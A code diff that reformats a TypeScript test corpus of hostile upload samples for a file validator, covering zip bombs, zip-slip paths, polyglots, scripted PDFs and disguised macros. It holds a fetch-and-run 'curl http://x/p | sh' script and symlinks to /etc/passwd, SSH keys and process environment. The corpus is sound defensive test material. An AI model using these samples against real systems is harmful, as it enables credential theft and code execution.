@@ -71,7 +71,11 @@ function jpegOfSize(width: number, height: number): Buffer {
 /** A PNG with an ancillary chunk (`prVt`) holding `data` just before IEND. */
 function pngWithChunk(data: Buffer): Buffer {
   const image = png();
-  return Buffer.concat([image.subarray(0, image.length - 12), pngChunk('prVt', data), image.subarray(image.length - 12)]);
+  return Buffer.concat([
+    image.subarray(0, image.length - 12),
+    pngChunk('prVt', data),
+    image.subarray(image.length - 12),
+  ]);
 }
 
 /** A DOCX with `safe` renamed to `unsafe` (same byte length) in both headers. */
@@ -83,11 +87,41 @@ async function docxRenamed(safe: string, unsafe: string): Promise<Buffer> {
 
 export const CORPUS: readonly CorpusItem[] = [
   // ── spoofed types: the bytes are not what the declaration says ──────────────────────────────
-  { id: 'exe-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: async () => windowsExecutable(), expect: 'TYPE_MISMATCH' },
-  { id: 'exe-as-png', category: 'spoofed type', declared: 'png', bytes: async () => windowsExecutable(), expect: 'TYPE_MISMATCH' },
-  { id: 'exe-as-jpeg', category: 'spoofed type', declared: 'jpeg', bytes: async () => windowsExecutable(), expect: 'TYPE_MISMATCH' },
-  { id: 'exe-as-docx', category: 'spoofed type', declared: 'docx', bytes: async () => windowsExecutable(), expect: 'TYPE_MISMATCH' },
-  { id: 'exe-as-xlsx', category: 'spoofed type', declared: 'xlsx', bytes: async () => windowsExecutable(), expect: 'TYPE_MISMATCH' },
+  {
+    id: 'exe-as-pdf',
+    category: 'spoofed type',
+    declared: 'pdf',
+    bytes: async () => windowsExecutable(),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'exe-as-png',
+    category: 'spoofed type',
+    declared: 'png',
+    bytes: async () => windowsExecutable(),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'exe-as-jpeg',
+    category: 'spoofed type',
+    declared: 'jpeg',
+    bytes: async () => windowsExecutable(),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'exe-as-docx',
+    category: 'spoofed type',
+    declared: 'docx',
+    bytes: async () => windowsExecutable(),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'exe-as-xlsx',
+    category: 'spoofed type',
+    declared: 'xlsx',
+    bytes: async () => windowsExecutable(),
+    expect: 'TYPE_MISMATCH',
+  },
   {
     id: 'self-extracting-exe-as-docx',
     category: 'spoofed type',
@@ -95,10 +129,34 @@ export const CORPUS: readonly CorpusItem[] = [
     bytes: async () => Buffer.concat([windowsExecutable(), await docx()]),
     expect: 'TYPE_MISMATCH',
   },
-  { id: 'elf-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: async () => withRandom(ascii('\x7fELF\x02\x01\x01')), expect: 'TYPE_MISMATCH' },
-  { id: 'shell-script-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: async () => ascii('#!/bin/sh\ncurl http://x/p | sh\n'), expect: 'TYPE_MISMATCH' },
-  { id: 'html-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: async () => ascii('<!doctype html><script>fetch("/v1/ops/summary")</script>'), expect: 'TYPE_MISMATCH' },
-  { id: 'svg-script-as-png', category: 'spoofed type', declared: 'png', bytes: async () => ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), expect: 'TYPE_MISMATCH' },
+  {
+    id: 'elf-as-pdf',
+    category: 'spoofed type',
+    declared: 'pdf',
+    bytes: async () => withRandom(ascii('\x7fELF\x02\x01\x01')),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'shell-script-as-pdf',
+    category: 'spoofed type',
+    declared: 'pdf',
+    bytes: async () => ascii('#!/bin/sh\ncurl http://x/p | sh\n'),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'html-as-pdf',
+    category: 'spoofed type',
+    declared: 'pdf',
+    bytes: async () => ascii('<!doctype html><script>fetch("/v1/ops/summary")</script>'),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'svg-script-as-png',
+    category: 'spoofed type',
+    declared: 'png',
+    bytes: async () => ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    expect: 'TYPE_MISMATCH',
+  },
   { id: 'zip-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: smallZip, expect: 'TYPE_MISMATCH' },
   { id: 'docx-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: () => docx(), expect: 'TYPE_MISMATCH' },
   { id: 'xlsx-as-docx', category: 'spoofed type', declared: 'docx', bytes: () => xlsx(), expect: 'TYPE_MISMATCH' },
@@ -112,16 +170,64 @@ export const CORPUS: readonly CorpusItem[] = [
     bytes: async () => withRandom(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])),
     expect: 'TYPE_MISMATCH',
   },
-  { id: 'gif-as-jpeg', category: 'spoofed type', declared: 'jpeg', bytes: async () => withRandom(ascii('GIF89a')), expect: 'TYPE_MISMATCH' },
-  { id: 'webp-as-jpeg', category: 'spoofed type', declared: 'jpeg', bytes: async () => withRandom(ascii('RIFF\x00\x10\x00\x00WEBPVP8 ')), expect: 'TYPE_MISMATCH' },
-  { id: 'rar-as-docx', category: 'spoofed type', declared: 'docx', bytes: async () => withRandom(ascii('Rar!\x1a\x07\x01\x00')), expect: 'TYPE_MISMATCH' },
-  { id: '7z-as-xlsx', category: 'spoofed type', declared: 'xlsx', bytes: async () => withRandom(Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])), expect: 'TYPE_MISMATCH' },
-  { id: 'gzip-as-ofd', category: 'spoofed type', declared: 'ofd', bytes: async () => withRandom(Buffer.from([0x1f, 0x8b, 0x08, 0x00])), expect: 'TYPE_MISMATCH' },
-  { id: 'junk-before-pdf-header', category: 'spoofed type', declared: 'pdf', bytes: async () => Buffer.concat([ascii('MZ-not-quite\n'), handmadePdf()]), expect: 'TYPE_MISMATCH' },
-  { id: 'text-then-pdf-header', category: 'spoofed type', declared: 'pdf', bytes: async () => Buffer.concat([ascii('<html>\n'), handmadePdf()]), expect: 'PDF_NO_HEADER' },
+  {
+    id: 'gif-as-jpeg',
+    category: 'spoofed type',
+    declared: 'jpeg',
+    bytes: async () => withRandom(ascii('GIF89a')),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'webp-as-jpeg',
+    category: 'spoofed type',
+    declared: 'jpeg',
+    bytes: async () => withRandom(ascii('RIFF\x00\x10\x00\x00WEBPVP8 ')),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'rar-as-docx',
+    category: 'spoofed type',
+    declared: 'docx',
+    bytes: async () => withRandom(ascii('Rar!\x1a\x07\x01\x00')),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: '7z-as-xlsx',
+    category: 'spoofed type',
+    declared: 'xlsx',
+    bytes: async () => withRandom(Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'gzip-as-ofd',
+    category: 'spoofed type',
+    declared: 'ofd',
+    bytes: async () => withRandom(Buffer.from([0x1f, 0x8b, 0x08, 0x00])),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'junk-before-pdf-header',
+    category: 'spoofed type',
+    declared: 'pdf',
+    bytes: async () => Buffer.concat([ascii('MZ-not-quite\n'), handmadePdf()]),
+    expect: 'TYPE_MISMATCH',
+  },
+  {
+    id: 'text-then-pdf-header',
+    category: 'spoofed type',
+    declared: 'pdf',
+    bytes: async () => Buffer.concat([ascii('<html>\n'), handmadePdf()]),
+    expect: 'PDF_NO_HEADER',
+  },
 
   // ── polyglots: a second reader also accepts the file ──────────────────────────────────────
-  { id: 'pdf+zip', category: 'polyglot', declared: 'pdf', bytes: async () => Buffer.concat([handmadePdf(), await smallZip()]), expect: 'POLYGLOT' },
+  {
+    id: 'pdf+zip',
+    category: 'polyglot',
+    declared: 'pdf',
+    bytes: async () => Buffer.concat([handmadePdf(), await smallZip()]),
+    expect: 'POLYGLOT',
+  },
   {
     id: 'pdf+docx+eof',
     category: 'polyglot',
@@ -129,28 +235,78 @@ export const CORPUS: readonly CorpusItem[] = [
     bytes: async () => Buffer.concat([handmadePdf(), await docx(), ascii('\n%%EOF\n')]),
     expect: 'POLYGLOT',
   },
-  { id: 'pdf-stream-holding-zip', category: 'polyglot', declared: 'pdf', bytes: async () => pdfWithEmbeddedFile(await docx()), expect: 'POLYGLOT' },
-  { id: 'png+zip', category: 'polyglot', declared: 'png', bytes: async () => Buffer.concat([png(), await smallZip()]), expect: 'POLYGLOT' },
-  { id: 'png-chunk-holding-zip', category: 'polyglot', declared: 'png', bytes: async () => pngWithChunk(await smallZip()), expect: 'POLYGLOT' },
-  { id: 'jpeg+zip', category: 'polyglot', declared: 'jpeg', bytes: async () => Buffer.concat([jpeg(), await smallZip()]), expect: 'POLYGLOT' },
-  { id: 'jpeg+rar', category: 'polyglot', declared: 'jpeg', bytes: async () => Buffer.concat([jpeg(), withRandom(ascii('Rar!\x1a\x07\x01\x00'), 512)]), expect: 'TRAILING_DATA' },
-  { id: 'jpeg+pdf-in-comment', category: 'polyglot', declared: 'jpeg', bytes: async () => jpegWithComment('%PDF-1.7\n1 0 obj <<>> endobj'), expect: 'POLYGLOT' },
+  {
+    id: 'pdf-stream-holding-zip',
+    category: 'polyglot',
+    declared: 'pdf',
+    bytes: async () => pdfWithEmbeddedFile(await docx()),
+    expect: 'POLYGLOT',
+  },
+  {
+    id: 'png+zip',
+    category: 'polyglot',
+    declared: 'png',
+    bytes: async () => Buffer.concat([png(), await smallZip()]),
+    expect: 'POLYGLOT',
+  },
+  {
+    id: 'png-chunk-holding-zip',
+    category: 'polyglot',
+    declared: 'png',
+    bytes: async () => pngWithChunk(await smallZip()),
+    expect: 'POLYGLOT',
+  },
+  {
+    id: 'jpeg+zip',
+    category: 'polyglot',
+    declared: 'jpeg',
+    bytes: async () => Buffer.concat([jpeg(), await smallZip()]),
+    expect: 'POLYGLOT',
+  },
+  {
+    id: 'jpeg+rar',
+    category: 'polyglot',
+    declared: 'jpeg',
+    bytes: async () => Buffer.concat([jpeg(), withRandom(ascii('Rar!\x1a\x07\x01\x00'), 512)]),
+    expect: 'TRAILING_DATA',
+  },
+  {
+    id: 'jpeg+pdf-in-comment',
+    category: 'polyglot',
+    declared: 'jpeg',
+    bytes: async () => jpegWithComment('%PDF-1.7\n1 0 obj <<>> endobj'),
+    expect: 'POLYGLOT',
+  },
   {
     id: 'docx-first-entry-pdf',
     category: 'polyglot',
     declared: 'docx',
-    bytes: () => buildZip(docxEntries({ first: [{ name: 'aaa.txt', data: '%PDF-1.4\n1 0 obj <<>> endobj', compress: false }] })),
+    bytes: () =>
+      buildZip(docxEntries({ first: [{ name: 'aaa.txt', data: '%PDF-1.4\n1 0 obj <<>> endobj', compress: false }] })),
     expect: 'POLYGLOT',
   },
-  { id: 'docx+trailing-script', category: 'polyglot', declared: 'docx', bytes: async () => Buffer.concat([await docx(), ascii('#!/bin/sh\necho x\n')]), expect: 'TRAILING_DATA' },
+  {
+    id: 'docx+trailing-script',
+    category: 'polyglot',
+    declared: 'docx',
+    bytes: async () => Buffer.concat([await docx(), ascii('#!/bin/sh\necho x\n')]),
+    expect: 'TRAILING_DATA',
+  },
 
   // ── zip bombs ──────────────────────────────────────────────────────────────────────────
-  { id: 'bomb-docx-ratio', category: 'zip bomb', declared: 'docx', bytes: () => zipBombDocx(24 * MiB), expect: 'ZIP_BOMB' },
+  {
+    id: 'bomb-docx-ratio',
+    category: 'zip bomb',
+    declared: 'docx',
+    bytes: () => zipBombDocx(24 * MiB),
+    expect: 'ZIP_BOMB',
+  },
   {
     id: 'bomb-xlsx-sheet',
     category: 'zip bomb',
     declared: 'xlsx',
-    bytes: () => buildZip(xlsxEntries({ extra: [{ name: 'xl/worksheets/sheet2.xml', data: Buffer.alloc(24 * MiB, '<row/>') }] })),
+    bytes: () =>
+      buildZip(xlsxEntries({ extra: [{ name: 'xl/worksheets/sheet2.xml', data: Buffer.alloc(24 * MiB, '<row/>') }] })),
     expect: 'ZIP_BOMB',
   },
   {
@@ -178,9 +334,13 @@ export const CORPUS: readonly CorpusItem[] = [
     category: 'zip bomb',
     declared: 'docx',
     bytes: async () =>
-      patchZip(await buildZip(docxEntries({ extra: [{ name: 'word/media/big.bin', data: Buffer.alloc(32 * MiB) }] })), 'word/media/big.bin', {
-        size: 100 * 1024,
-      }),
+      patchZip(
+        await buildZip(docxEntries({ extra: [{ name: 'word/media/big.bin', data: Buffer.alloc(32 * MiB) }] })),
+        'word/media/big.bin',
+        {
+          size: 100 * 1024,
+        },
+      ),
     expect: 'ZIP_BOMB',
   },
   {
@@ -188,28 +348,136 @@ export const CORPUS: readonly CorpusItem[] = [
     category: 'zip bomb',
     declared: 'docx',
     bytes: () =>
-      buildZip(docxEntries({ extra: Array.from({ length: 10_001 }, (_, i) => ({ name: `word/media/i${i}.png`, data: 'x', compress: false })) })),
+      buildZip(
+        docxEntries({
+          extra: Array.from({ length: 10_001 }, (_, i) => ({
+            name: `word/media/i${i}.png`,
+            data: 'x',
+            compress: false,
+          })),
+        }),
+      ),
     expect: 'ZIP_TOO_MANY_ENTRIES',
   },
 
   // ── zip slip: entry names that escape the extraction folder ─────────────────────────────
-  { id: 'slip-dotdot', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('xx/xx/evil.sh', '../../evil.sh'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-inner-dotdot', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('word/xx/xx/x.sh', 'word/../../x.sh'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-absolute', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('xetc/cron.d/x', '/etc/cron.d/x'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-drive-letter', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('xx/Windows/x.bat', 'C:/Windows/x.bat'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-drive-relative', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('word/a.bat', 'C:evil.bat'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-backslash', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('word/xx/evil', 'word\\..\\evil'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-windows-absolute', category: 'zip slip', declared: 'xlsx', bytes: async () => patchZip(await buildZip(xlsxEntries({ extra: [{ name: 'xx/Windows/x.bat', data: 'x' }] })), 'xx/Windows/x.bat', { rename: 'C:\\Windows\\x.bat' }), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-unc', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('xxsrv/share/x', '\\\\srv\\share\\x'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-nul', category: 'zip slip', declared: 'docx', bytes: () => docxRenamed('word/x.sh.xml', 'word/x.sh\u0000xml'), expect: 'ZIP_UNSAFE_PATH' },
-  { id: 'slip-ofd', category: 'zip slip', declared: 'ofd', bytes: async () => patchZip(await buildZip(ofdEntries({ extra: [{ name: 'Doc_0/xx/x.sh', data: 'x' }] })), 'Doc_0/xx/x.sh', { rename: 'Doc_0/../x.sh' }), expect: 'ZIP_UNSAFE_PATH' },
+  {
+    id: 'slip-dotdot',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('xx/xx/evil.sh', '../../evil.sh'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-inner-dotdot',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('word/xx/xx/x.sh', 'word/../../x.sh'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-absolute',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('xetc/cron.d/x', '/etc/cron.d/x'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-drive-letter',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('xx/Windows/x.bat', 'C:/Windows/x.bat'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-drive-relative',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('word/a.bat', 'C:evil.bat'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-backslash',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('word/xx/evil', 'word\\..\\evil'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-windows-absolute',
+    category: 'zip slip',
+    declared: 'xlsx',
+    bytes: async () =>
+      patchZip(await buildZip(xlsxEntries({ extra: [{ name: 'xx/Windows/x.bat', data: 'x' }] })), 'xx/Windows/x.bat', {
+        rename: 'C:\\Windows\\x.bat',
+      }),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-unc',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('xxsrv/share/x', '\\\\srv\\share\\x'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-nul',
+    category: 'zip slip',
+    declared: 'docx',
+    bytes: () => docxRenamed('word/x.sh.xml', 'word/x.sh\u0000xml'),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
+  {
+    id: 'slip-ofd',
+    category: 'zip slip',
+    declared: 'ofd',
+    bytes: async () =>
+      patchZip(await buildZip(ofdEntries({ extra: [{ name: 'Doc_0/xx/x.sh', data: 'x' }] })), 'Doc_0/xx/x.sh', {
+        rename: 'Doc_0/../x.sh',
+      }),
+    expect: 'ZIP_UNSAFE_PATH',
+  },
 
   // ── symbolic links, encryption and unsupported or malformed archives ─────────────────────
-  { id: 'symlink-docx', category: 'symlink', declared: 'docx', bytes: () => buildZip(docxEntries({ extra: [{ name: 'word/media/link', data: '/etc/passwd', mode: 0o120777 }] })), expect: 'ZIP_SYMLINK' },
-  { id: 'symlink-xlsx', category: 'symlink', declared: 'xlsx', bytes: () => buildZip(xlsxEntries({ extra: [{ name: 'xl/media/link', data: '../../../../root/.ssh/id_rsa', mode: 0o120777 }] })), expect: 'ZIP_SYMLINK' },
-  { id: 'symlink-ofd', category: 'symlink', declared: 'ofd', bytes: () => buildZip(ofdEntries({ extra: [{ name: 'Doc_0/Res/link', data: '/proc/self/environ', mode: 0o120777 }] })), expect: 'ZIP_SYMLINK' },
-  { id: 'zip-encrypted-entry', category: 'encrypted', declared: 'docx', bytes: async () => patchZip(await docx(), 'word/document.xml', { flags: (f) => f | 1 }), expect: 'ZIP_ENCRYPTED' },
-  { id: 'zip64', category: 'malformed archive', declared: 'docx', bytes: () => buildZip(docxEntries({ extra: [{ name: 'a.txt', data: 'x', zip64: true }] })), expect: 'ZIP_UNSUPPORTED' },
+  {
+    id: 'symlink-docx',
+    category: 'symlink',
+    declared: 'docx',
+    bytes: () => buildZip(docxEntries({ extra: [{ name: 'word/media/link', data: '/etc/passwd', mode: 0o120777 }] })),
+    expect: 'ZIP_SYMLINK',
+  },
+  {
+    id: 'symlink-xlsx',
+    category: 'symlink',
+    declared: 'xlsx',
+    bytes: () =>
+      buildZip(
+        xlsxEntries({ extra: [{ name: 'xl/media/link', data: '../../../../root/.ssh/id_rsa', mode: 0o120777 }] }),
+      ),
+    expect: 'ZIP_SYMLINK',
+  },
+  {
+    id: 'symlink-ofd',
+    category: 'symlink',
+    declared: 'ofd',
+    bytes: () =>
+      buildZip(ofdEntries({ extra: [{ name: 'Doc_0/Res/link', data: '/proc/self/environ', mode: 0o120777 }] })),
+    expect: 'ZIP_SYMLINK',
+  },
+  {
+    id: 'zip-encrypted-entry',
+    category: 'encrypted',
+    declared: 'docx',
+    bytes: async () => patchZip(await docx(), 'word/document.xml', { flags: (f) => f | 1 }),
+    expect: 'ZIP_ENCRYPTED',
+  },
+  {
+    id: 'zip64',
+    category: 'malformed archive',
+    declared: 'docx',
+    bytes: () => buildZip(docxEntries({ extra: [{ name: 'a.txt', data: 'x', zip64: true }] })),
+    expect: 'ZIP_UNSUPPORTED',
+  },
   {
     id: 'zip-duplicate-entry',
     category: 'malformed archive',
@@ -217,7 +485,13 @@ export const CORPUS: readonly CorpusItem[] = [
     bytes: () => buildZip(docxEntries({ extra: [{ name: 'word/document.xml', data: '<evil/>' }] })),
     expect: 'ZIP_MALFORMED',
   },
-  { id: 'zip-central-name-differs', category: 'malformed archive', declared: 'docx', bytes: async () => patchZip(await docx(), 'word/styles.xml', { rename: 'word/STYLES.xml', where: 'central' }), expect: 'ZIP_MALFORMED' },
+  {
+    id: 'zip-central-name-differs',
+    category: 'malformed archive',
+    declared: 'docx',
+    bytes: async () => patchZip(await docx(), 'word/styles.xml', { rename: 'word/STYLES.xml', where: 'central' }),
+    expect: 'ZIP_MALFORMED',
+  },
   {
     id: 'zip-hidden-bytes',
     category: 'malformed archive',
@@ -232,22 +506,110 @@ export const CORPUS: readonly CorpusItem[] = [
   },
 
   // ── pixel floods ──────────────────────────────────────────────────────────────────────
-  { id: 'png-flood-100k', category: 'pixel flood', declared: 'png', bytes: async () => pixelFloodPng(), expect: 'IMAGE_TOO_MANY_PIXELS' },
-  { id: 'png-flood-max', category: 'pixel flood', declared: 'png', bytes: async () => pixelFloodPng(0x7fffffff, 0x7fffffff), expect: 'IMAGE_TOO_MANY_PIXELS' },
-  { id: 'png-flood-thin', category: 'pixel flood', declared: 'png', bytes: async () => pixelFloodPng(1, 200_000_000), expect: 'IMAGE_TOO_MANY_PIXELS' },
-  { id: 'jpeg-flood', category: 'pixel flood', declared: 'jpeg', bytes: async () => jpegOfSize(65_535, 65_535), expect: 'IMAGE_TOO_MANY_PIXELS' },
+  {
+    id: 'png-flood-100k',
+    category: 'pixel flood',
+    declared: 'png',
+    bytes: async () => pixelFloodPng(),
+    expect: 'IMAGE_TOO_MANY_PIXELS',
+  },
+  {
+    id: 'png-flood-max',
+    category: 'pixel flood',
+    declared: 'png',
+    bytes: async () => pixelFloodPng(0x7fffffff, 0x7fffffff),
+    expect: 'IMAGE_TOO_MANY_PIXELS',
+  },
+  {
+    id: 'png-flood-thin',
+    category: 'pixel flood',
+    declared: 'png',
+    bytes: async () => pixelFloodPng(1, 200_000_000),
+    expect: 'IMAGE_TOO_MANY_PIXELS',
+  },
+  {
+    id: 'jpeg-flood',
+    category: 'pixel flood',
+    declared: 'jpeg',
+    bytes: async () => jpegOfSize(65_535, 65_535),
+    expect: 'IMAGE_TOO_MANY_PIXELS',
+  },
 
   // ── PDFs: encrypted, scripted, carrying attachments ───────────────────────────────────────
-  { id: 'pdf-encrypted', category: 'encrypted PDF', declared: 'pdf', bytes: async () => encryptedPdf(), expect: 'PDF_ENCRYPTED' },
-  { id: 'pdf-encrypted-xref-stream', category: 'encrypted PDF', declared: 'pdf', bytes: async () => encryptedPdfXrefStream(64 * 1024, { xrefAtEnd: true }), expect: 'PDF_ENCRYPTED' },
-  { id: 'pdf-javascript-object-streams', category: 'PDF script', declared: 'pdf', bytes: () => pdfWithScript(), expect: 'PDF_SCRIPT' },
-  { id: 'pdf-javascript-plain', category: 'PDF script', declared: 'pdf', bytes: () => pdfWithScript({ objectStreams: false }), expect: 'PDF_SCRIPT' },
-  { id: 'pdf-openaction-js', category: 'PDF script', declared: 'pdf', bytes: async () => pdfWithCatalog('/OpenAction << /S /JavaScript /JS (app.launchURL("http://x/")) >>'), expect: 'PDF_SCRIPT' },
-  { id: 'pdf-openaction-js-escaped', category: 'PDF script', declared: 'pdf', bytes: async () => pdfWithCatalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), expect: 'PDF_SCRIPT' },
-  { id: 'pdf-launch', category: 'PDF script', declared: 'pdf', bytes: async () => pdfWithCatalog('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), expect: 'PDF_SCRIPT' },
-  { id: 'pdf-javascript-action-object', category: 'PDF script', declared: 'pdf', bytes: async () => pdfWithCatalog('', [{ dict: '<< /Type /Action /S /JavaScript /JS 7 0 R >>' }, { dict: '', stream: ascii('this.print()') }]), expect: 'PDF_SCRIPT' },
-  { id: 'pdf-richmedia', category: 'PDF script', declared: 'pdf', bytes: async () => pdfWithCatalog('', [{ dict: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>' }]), expect: 'PDF_SCRIPT' },
-  { id: 'pdf-attachment', category: 'PDF attachment', declared: 'pdf', bytes: () => pdfWithAttachment(windowsExecutable()), expect: 'PDF_ATTACHMENT' },
+  {
+    id: 'pdf-encrypted',
+    category: 'encrypted PDF',
+    declared: 'pdf',
+    bytes: async () => encryptedPdf(),
+    expect: 'PDF_ENCRYPTED',
+  },
+  {
+    id: 'pdf-encrypted-xref-stream',
+    category: 'encrypted PDF',
+    declared: 'pdf',
+    bytes: async () => encryptedPdfXrefStream(64 * 1024, { xrefAtEnd: true }),
+    expect: 'PDF_ENCRYPTED',
+  },
+  {
+    id: 'pdf-javascript-object-streams',
+    category: 'PDF script',
+    declared: 'pdf',
+    bytes: () => pdfWithScript(),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-javascript-plain',
+    category: 'PDF script',
+    declared: 'pdf',
+    bytes: () => pdfWithScript({ objectStreams: false }),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-openaction-js',
+    category: 'PDF script',
+    declared: 'pdf',
+    bytes: async () => pdfWithCatalog('/OpenAction << /S /JavaScript /JS (app.launchURL("http://x/")) >>'),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-openaction-js-escaped',
+    category: 'PDF script',
+    declared: 'pdf',
+    bytes: async () => pdfWithCatalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-launch',
+    category: 'PDF script',
+    declared: 'pdf',
+    bytes: async () => pdfWithCatalog('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-javascript-action-object',
+    category: 'PDF script',
+    declared: 'pdf',
+    bytes: async () =>
+      pdfWithCatalog('', [
+        { dict: '<< /Type /Action /S /JavaScript /JS 7 0 R >>' },
+        { dict: '', stream: ascii('this.print()') },
+      ]),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-richmedia',
+    category: 'PDF script',
+    declared: 'pdf',
+    bytes: async () => pdfWithCatalog('', [{ dict: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>' }]),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-attachment',
+    category: 'PDF attachment',
+    declared: 'pdf',
+    bytes: () => pdfWithAttachment(windowsExecutable()),
+    expect: 'PDF_ATTACHMENT',
+  },
   {
     id: 'pdf-attachment-annotation',
     category: 'PDF attachment',
@@ -273,16 +635,47 @@ export const CORPUS: readonly CorpusItem[] = [
   },
 
   // ── macro-enabled Office files disguised as .docx / .xlsx ──────────────────────────────
-  { id: 'docm-vba-part', category: 'macros', declared: 'docx', bytes: () => docx({ vbaProject: true }), expect: 'MACROS' },
-  { id: 'xlsm-vba-part', category: 'macros', declared: 'xlsx', bytes: () => xlsx({ vbaProject: true }), expect: 'MACROS' },
-  { id: 'docm-content-type', category: 'macros', declared: 'docx', bytes: () => docx({ macroContentType: true }), expect: 'MACROS' },
-  { id: 'xlsm-content-type', category: 'macros', declared: 'xlsx', bytes: () => xlsx({ macroContentType: true }), expect: 'MACROS' },
-  { id: 'docm-streamed', category: 'macros', declared: 'docx', bytes: () => docx({ vbaProject: true, macroContentType: true, stream: true }), expect: 'MACROS' },
+  {
+    id: 'docm-vba-part',
+    category: 'macros',
+    declared: 'docx',
+    bytes: () => docx({ vbaProject: true }),
+    expect: 'MACROS',
+  },
+  {
+    id: 'xlsm-vba-part',
+    category: 'macros',
+    declared: 'xlsx',
+    bytes: () => xlsx({ vbaProject: true }),
+    expect: 'MACROS',
+  },
+  {
+    id: 'docm-content-type',
+    category: 'macros',
+    declared: 'docx',
+    bytes: () => docx({ macroContentType: true }),
+    expect: 'MACROS',
+  },
+  {
+    id: 'xlsm-content-type',
+    category: 'macros',
+    declared: 'xlsx',
+    bytes: () => xlsx({ macroContentType: true }),
+    expect: 'MACROS',
+  },
+  {
+    id: 'docm-streamed',
+    category: 'macros',
+    declared: 'docx',
+    bytes: () => docx({ vbaProject: true, macroContentType: true, stream: true }),
+    expect: 'MACROS',
+  },
   {
     id: 'docm-renamed-vba-part',
     category: 'macros',
     declared: 'docx',
-    bytes: async () => patchZip(await docx({ vbaProject: true }), 'word/vbaProject.bin', { rename: 'word/mediaData1.bin' }),
+    bytes: async () =>
+      patchZip(await docx({ vbaProject: true }), 'word/vbaProject.bin', { rename: 'word/mediaData1.bin' }),
     expect: 'MACROS',
   },
   {
@@ -294,24 +687,109 @@ export const CORPUS: readonly CorpusItem[] = [
   },
 
   // ── truncated, empty, and not what was declared ───────────────────────────────────────────
-  { id: 'pdf-truncated', category: 'truncated', declared: 'pdf', bytes: async () => truncatedPdf(await pdfLibPdf()), expect: 'PDF_TRUNCATED' },
-  { id: 'pdf-header-only', category: 'truncated', declared: 'pdf', bytes: async () => ascii('%PDF-1.7\n'), expect: 'PDF_TRUNCATED' },
-  { id: 'docx-truncated', category: 'truncated', declared: 'docx', bytes: async () => (await docx()).subarray(0, 1500), expect: 'ZIP_MALFORMED' },
